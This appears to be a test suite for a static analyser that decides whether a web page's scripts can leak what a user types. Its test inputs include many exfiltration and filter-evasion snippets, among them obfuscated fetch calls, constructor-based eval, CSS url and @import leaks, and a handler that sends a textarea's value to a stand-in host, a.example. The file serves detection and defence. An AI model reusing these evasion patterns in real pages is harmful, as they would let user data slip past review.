import assert from 'node:assert/strict'
import { test } from 'node:test'
import { emptyOutline } from '../html/outline.ts'
import { scanHtml } from '../html/scanHtml.ts'
import { unfold } from './obfuscation.ts'
import { sendsNothing } from './sendsNothing.ts'

const READ = { unread: [], obfuscation: [], scripts: [], linked: true }
const keeps = (code: string, outline = {}, read = {}) =>
  sendsNothing([unfold('inline', code)], { ...emptyOutline(), ...outline }, { ...READ, ...read })

const LOCAL =
  "const at = (id) => document.getElementById(id); const acts = [async (button) => { const bytes = new TextEncoder().encode(at('area').value.normalize('NFKD')); at('out').textContent = [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((one) => one.toString(16)).join(' '); localStorage.setItem('k', at('out').textContent) }]\nconst v = at('area').value; document.querySelectorAll('[data-at]').forEach((button) => { button.onclick = () => Promise.resolve(acts[button.dataset.at](button)).catch(() => undefined) })"

test('code that computes and shows keeps what is typed', () => {
  assert.equal(keeps(LOCAL), true)
  for (const more of [
    'const sum = (a, b) => (a + b) % 7; for (const one of [1, 2]) { sum(one, 2) }',
    `const words = \`\${v} and \${v.length}\`; at("out").textContent = words.split(/\\s+/)[0]`,
    'at("out").innerHTML = "<p class=\\"a\\">Checked</p>"',
    'setTimeout(() => at("out").focus(), 20)',
    "customElements.define('app-shell', class extends HTMLElement { connectedCallback() { const shadow = this.attachShadow({ mode: 'open' }); shadow.innerHTML = '<main>text</main>' } })",
  ])
    assert.equal(keeps(`${LOCAL}; ${more}`), true, more)
})

test('every way out, by whatever name, sends', () => {
  const ways = [
    ...["fetch('/a', { body })", 'navigator.sendBeacon(u, v)', 'new Image().src = u + v', "window['fe' + 'tch'](u)"],
    ...[
      'location.hash = v',
      'form.submit()',
      'self[name](v)',
      'eval(text)',
      'import(u)',
      'open(u + v)',
      'a.href = u + v',
    ],
    ...["at.innerHTML = '<img src=' + u + v + '>'", 'document.createElement(tag)', "x.setAttribute('src', u)"],
    ...[
      '[].map.constructor(t)()',
      '[][a + b](t)()',
      'const w = window; w[a]',
      "atob('ZmV0Y2goJy9hJyk=')",
      'parent.postMessage(v)',
      'new Worker(u)',
      "style.background = 'url(' + v",
    ],
  ]
  ways.push(
    ...['navigation.navigate(u + v)', 'new Audio(u + v)', 'fetchLater(u)', 'Object.assign(img, { src: u + v })'],
    ...['const fetchLater = 1; fetchLater(u)', 'img.attributes.src.value = u + v', 'new webkitRTCPeerConnection(v)'],
    ...[
      "at('o').innerHTML = '<input type=image src=' + v + '>'",
      "at('o').innerHTML = v",
      "at('o').innerHTML = '<p>' + v",
    ],
    ...["at('s').textContent = '@import \"//a.example/' + v", 'sheet.insertRule(v)', "at('o').style.color = v"],
    ...[
      "at('o')[v] = u",
      "at('o')['src'] = u",
      'const k = v; at(k)[k]',
      'const { location: l } = document',
      '(() => 0)[v](u)',
    ],
    ...[
      "const { ['fetch']: f } = this",
      "const { 'fetch': f } = this",
      'acts[v][v](u)',
      'acts[v] = u',
      'this?.[v]',
      'x = let[v]',
    ],
    ...['setTimeout(v, 1)', 'setTimeout(at, 1)', "at('x').insertAdjacentHTML('beforeend', v)", 'const w = \u0077indow'],
    ...[
      "if (v) /'/.test(v); fetch(u) //'",
      "x++ /'/ 2",
      "<!-- '\nfetch(u) //'",
      'const get = document; get[v]',
      'const of = this; of[v]',
    ],
    ...[
      'const n = 2; at(v)[n](u)',
      `\`\${fetch(u)}\``,
      "at('o').innerHTML = '\\x3cimg src=a>'",
      'alert.constructor(v)()',
    ],
  )
  ways.push(
    ...["const { constructor } = at; constructor('x')()", "const f = ({ constructor }) => constructor('x')(); f(at)"],
    ...[
      "const { submit } = at('a')",
      "const { src: s } = at('a')",
      '({ innerHTML: at.x } = v)',
      "const l = [1]; const f = l['constructor']",
    ],
    ...[
      "[at('o').src] = [u]",
      "for (at('o').src of [u]) { }",
      'class A extends HTMLElement { [v]() { } }',
      'document = v',
      'with (document) { }',
    ],
    ...[
      'label: for (;;) { break label } fetch(u)',
      'new.target',
      `String.raw\`\${v}\``,
      "at('o')?.[v]",
      "delete at('o').src",
      'super.x',
    ],
  )
  for (const way of ways) assert.equal(keeps(`${LOCAL}; ${way}`), false, way)
})

test('a function that makes elements of what stands in the code keeps what is typed', () => {
  const made = [
    "const show = (html) => { at('view').innerHTML = html }; show('<h2>Import</h2><textarea rows=\"4\"></textarea>'); show('<p>Done</p>')",
    "const h = (tag, props, ...children) => { const made = document.createElement(tag); Object.assign(made, props); made.append(...children); return made }; document.body.append(h('div', { className: 'layout', innerHTML: '<main id=\"v\">text</main>' }, h('p', { textContent: v })))",
  ]
  for (const code of made) assert.equal(keeps(`${LOCAL}; ${code}`), true, code)
})

test('a constant that a bundle keeps with itself is no way out, a member of anything else is', () => {
  assert.equal(keeps(`!function(){"use strict";var e={};e.v="3.9.5";${LOCAL}}();`), true)
  for (const code of [
    'const e = {}; e.src = v',
    'const e = {}; e.__proto__ = 1',
    'let e = {}; e = at("a"); e.src = "https://a.example"',
    "const e = document; e.cookie = 'a'",
    "const e = {}; [e].map((e) => { e.src = 'https://a.example' })",
  ])
    assert.equal(keeps(`${LOCAL}; ${code}`), false, code)
})

test('bytes that become base64 at once keep what is typed, letters made of numbers do not', () => {
  const bytes = 'new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)))'
  const stored = `localStorage.setItem('k', btoa(String.fromCharCode(...${bytes})))`
  assert.equal(keeps(`${LOCAL}; (async () => { ${stored} })()`), true)
  for (const code of [
    "at('s').textContent = String.fromCharCode(64) + 'import url(//a.example/' + v",
    'const f = String.fromCharCode; btoa(f(64))',
    "at('s').textContent = btoa(String.fromCharCode(64), at('s').textContent = String.fromCharCode(64))",
    "const btoa = (text) => text; at('s').textContent = btoa(String.fromCharCode(64))",
  ])
    assert.equal(keeps(`${LOCAL}; ${code}`), false, code)
})

test('a function that may be given anything else sends', () => {
  const show = (more: string) => `const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>'); ${more}`
  const h = (more: string) =>
    `const h = (tag, props) => { const made = document.createElement(tag); Object.assign(made, props); return made }; h('p', { className: 'a' }); ${more}`
  for (const code of [
    ...[show('show(v)'), show("show('<p>' + v)"), show('[v].forEach(show)'), show('const other = show; other(v)')],
    ...[
      show('show(...[v])'),
      show('show()'),
      show("show('<img src=a>')"),
      show('acts.push(show)'),
      show('show.call(null, v)'),
    ],
    "const show = (html) => { html = v; at('view').innerHTML = html }; show('<p>a</p>')",
    "const show = (html) => { for (html of [v]) at('view').innerHTML = html }; show('<p>a</p>')",
    "const show = (html) => { [v].map((html) => { at('view').innerHTML = html }) }; show('<p>a</p>')",
    "const html = v; const show = (html) => { }; show('<p>a</p>'); at('view').innerHTML = html",
    "let show = (html) => { at('view').innerHTML = html }; show('<p>a</p>'); show = v",
    ...[
      h("h('img', { className: 'a' })"),
      h("h(v, { className: 'a' })"),
      h("h('p', { src: v })"),
      h("h('p', { className: v })"),
    ],
    ...[
      h("h('p', { innerHTML: v })"),
      h("h('p', { ...v })"),
      h("h('p', { [v]: v })"),
      h("h('p', v)"),
      h("h('p', { get id() { return v } })"),
    ],
    ...[
      "Object.assign(at('a'), v)",
      'Object.assign(at(v), { href: v })',
      "const { assign } = Object; assign(at('a'), v)",
    ],
    "Object.assign(at('a'), { className: 'a' }, v)",
    "const put = Object.assign; put(at('a'), { src: v })",
  ])
    assert.equal(keeps(`${LOCAL}; ${code}`), false, code)
})

test('unread parts, hidden code, a form, a frame, and the next page where something is stored are ways out', () => {
  assert.equal(keeps(LOCAL, {}, { unread: ['script https://a.example/a.js: 404'] }), false)
  assert.equal(keeps(LOCAL, {}, { obfuscation: [{ kind: 'packed', where: 'inline', excerpt: '' }] }), false)
  assert.equal(keeps(LOCAL, { forms: [{ action: null }] }), false)
  assert.equal(keeps(LOCAL, { frames: [{ src: '/a', hidden: false }] }), false)
  assert.equal(keeps(LOCAL, { links: [{ href: '/next', download: false }] }), false)
  const library = { src: 'https://code.jquery.com/jquery.js', bytes: 0, read: false, offSite: true, why: 'well-known' }
  assert.equal(keeps(LOCAL, {}, { scripts: [library] }), false)
})

test('code of any length and depth is read in no time, or not at all', () => {
  const long = [
    `\`${'a'.repeat(2_000_000)}\``,
    `'${'a'.repeat(2_000_000)}'`,
    `${'['.repeat(40_000)}${']'.repeat(40_000)}`,
    `${'const['.repeat(9_000)}${']'.repeat(9_000)}`,
    `${'a/*'.repeat(2_000)}${'x'.repeat(90_000)}`,
    `${'l['.repeat(20_000)}0${']'.repeat(20_000)}`,
  ]
  const began = process.cpuUsage()
  for (const code of long) assert.equal(keeps(code), false)
  const { user, system } = process.cpuUsage(began)
  assert.ok(user + system < 2_000_000, `${user + system} µs of processor time`)
})

/** Whether a document with these scripts keeps what is typed. */
async function isKept(html: string, ...more: string[]): Promise<boolean> {
  const outline = await scanHtml(html, AbortSignal.timeout(20_000))
  const codes = [...outline.scripts.map(({ code }) => code), ...outline.handlers, ...more]
  return sendsNothing(
    codes.map((code) => unfold('inline', code)),
    outline,
    READ,
  )
}

const HELPER = 'const at = (id) => document.getElementById(id); '

test('names of a page are those that the code makes around them, and no names of its elements', async () => {
  for (const [html, ...codes] of [
    ['<textarea id="v"></textarea><p id="view"></p>', LOCAL],
    ['<style>p{color:red}</style><p id="view"></p>', `${HELPER}at('view').textContent = 'a'`],
    [
      '<style>p{}</style>',
      "const at = (one) => document.querySelector(one); at('#a').textContent = at('output [data-b=\"1\"], .c > p').value",
    ],
    ['<p id="a"></p>', `${HELPER}at('a').textContent = 'a'`, "document.getElementById('a').hidden = true"],
    ['<p id="a"></p>', 'const of = (one) => one.length; const by = (one) => one.length; of([by([])])'],
  ] as const)
    assert.equal(await isKept(html, ...codes), true, codes.join('\n'))
  for (const [html, ...codes] of [
    ['', `(() => { const pic = {}; pic.v = '1' })(); pic.src = 'https://a.example/x.js'`],
    ['', `(() => { const pic = {}; pic.v = '1' })(); pic.outerHTML = '<p onpointermove=a>'`],
    ['<img id="pic">', `(() => { const pic = 1; pic.toString() })(); pic.hidden = true`],
    [
      '<p id="h"></p>',
      `${HELPER}const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>')`,
      '(() => { const show = 1; show.toString() })(); show(document.querySelector("#h").textContent)',
    ],
    [
      '<p id="html"></p>',
      `${HELPER}const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>'); at('view').innerHTML = html`,
    ],
    ['', 'const k = document', '(() => { const k = [] })(); k[v]'],
    ['', 'const k = document; (() => { const k = []; k.length })(); k[0]; const v = 1; k[v]'],
    ['', '({ a: pic }); pic.hidden = true'],
    ['', '[pic] = [1]; pic.hidden = true'],
    ['', 'const f = (a = pic) => { var pic = 1; a.hidden = true }; f()'],
    ['', 'switch (pic.value) { case 0: let pic = 1 }'],
    ['', 'if (0) function pic() { } pic.hidden = true'],
    ['', '{ function pic() { } } pic.hidden = true'],
    ['', `var map = (html) => { document.getElementById('v').innerHTML = html }; map('<p>'); this.map(v)`],
    ['', `var value = {}; this.value = document.getElementById('a'); value.src = 'https://a.example'`],
    ['', '[document] = [1]'],
    ['', 'document++'],
    ['', 'const f = function () { return this }; f().name'],
  ] as const)
    assert.equal(await isKept(html, ...codes), false, codes.join('\n'))
})

test('code that reaches scripts or styles of its document, and handlers of elements, send', async () => {
  for (const [html, ...codes] of [
    [
      '<script id="s" type="text/plain">fetch(u)</script>',
      `${HELPER}Object.assign(at('s'), { type: 'module' }); at('s').append(' ')`,
    ],
    ['<p id="s"></p>', `${HELPER}Object.assign(at('s'), { type: 'module' })`],
    ['<p id="s"></p>', `${HELPER}Object.assign(at('s'), { className: 'a' })`],
    ['<script id="s"></script>', `${HELPER}at('s').textContent = at('h').textContent`],
    ['<script></script>', `document.querySelector('script').textContent = 'a'`],
    ['<style id="s"></style>', `${HELPER}at('s').textContent = new TextDecoder().decode(at('h').value)`],
    ...[
      "document.querySelector('style').textContent = 'a'",
      "document.querySelectorAll('*').forEach((one) => { one.textContent = v })",
      "const at = (one) => document.querySelector(one); at('head > :first-child').textContent = 'a'",
      "const at = (one) => document.querySelector(one); at('p, style').textContent = 'a'",
      "const at = (one) => document.querySelector(one); at('[nonce]').textContent = 'a'",
      "[...document.all].forEach((one) => { one.textContent = 'a' })",
      "['style'].map(document.querySelector, document)",
      "const { querySelector: find } = document; ['style'].map(find, document)",
      "document.addEventListener('load', (one) => { one.target.textContent = 'a' }, true)",
      "document.addEventListener('load', ({ target }) => { target.textContent = 'a' }, true)",
    ].map((code) => ['<style>p{color:red}</style>', code] as const),
    [`<img onclick="[onclick=>0,src=>0],src='https://a.example/?'+document.querySelector('textarea').value">`],
    ['<p onclick="1"></p>'],
    ['<svg><script href="https://a.example"></script></svg>'],
    ['<meta http-equiv="refresh" content="60;url=/next">', "localStorage.setItem('a', 'b')"],
    ['<map><area href="/next"></map>', "localStorage.setItem('a', 'b')"],
    ['<img id="a" loading="lazy" src="/1" hidden>', `${HELPER}at('a').hidden = false`],
    ['<style>[value^=a]{background:url(/a)}</style>', `${HELPER}at('a').value = at('b').value`],
    ['<style>.a{background:url(/a)}</style>', LOCAL],
  ] as const)
    assert.equal(await isKept(html, ...codes), false, [html, ...codes].join('\n'))
})

test('code that takes too many steps may send', () => {
  const show = "const show = (html) => { at('view').innerHTML = html };"
  const hostile = {
    'one name that is used very often': 'a;'.repeat(49_990),
    'one own name that is used very often': `const a = 1; ${'a;'.repeat(49_900)}`,
    'many parameters and many calls': `const f = (${Array.from({ length: 8_000 }, (_, at) => `a${at}`).join()}) => 0; ${'f();'.repeat(12_000)}`,
    'many uses of a value that many calls give': `${HELPER}const show = (html) => { ${"at('v').innerHTML = html;".repeat(1_500)} }; ${"show('<p>a</p>');".repeat(2_000)}`,
    'a long markup that is used very often': `${HELPER}${show} ${"show('<p>a</p>');".repeat(5_000)}`,
    'many names of one, made deep inside': `${'{ let a; '.repeat(4_000)}${'b;'.repeat(9_000)}${'}'.repeat(4_000)}`,
    'many objects that are given': `const h = (props) => { const made = document.createElement('p'); ${'Object.assign(made, props);'.repeat(1_500)} }; ${'h({});'.repeat(4_000)}`,
  }
  const began = process.cpuUsage()
  const answers = Object.entries(hostile).map(([name, code]) => [name, keeps(code)])
  const { user, system } = process.cpuUsage(began)
  assert.deepEqual(
    answers.filter(([, isKept]) => isKept).map(([name]) => name),
    ['one own name that is used very often', 'a long markup that is used very often'],
  )
  assert.ok(user + system < 8_000_000, `${user + system} µs of processor time`)
})
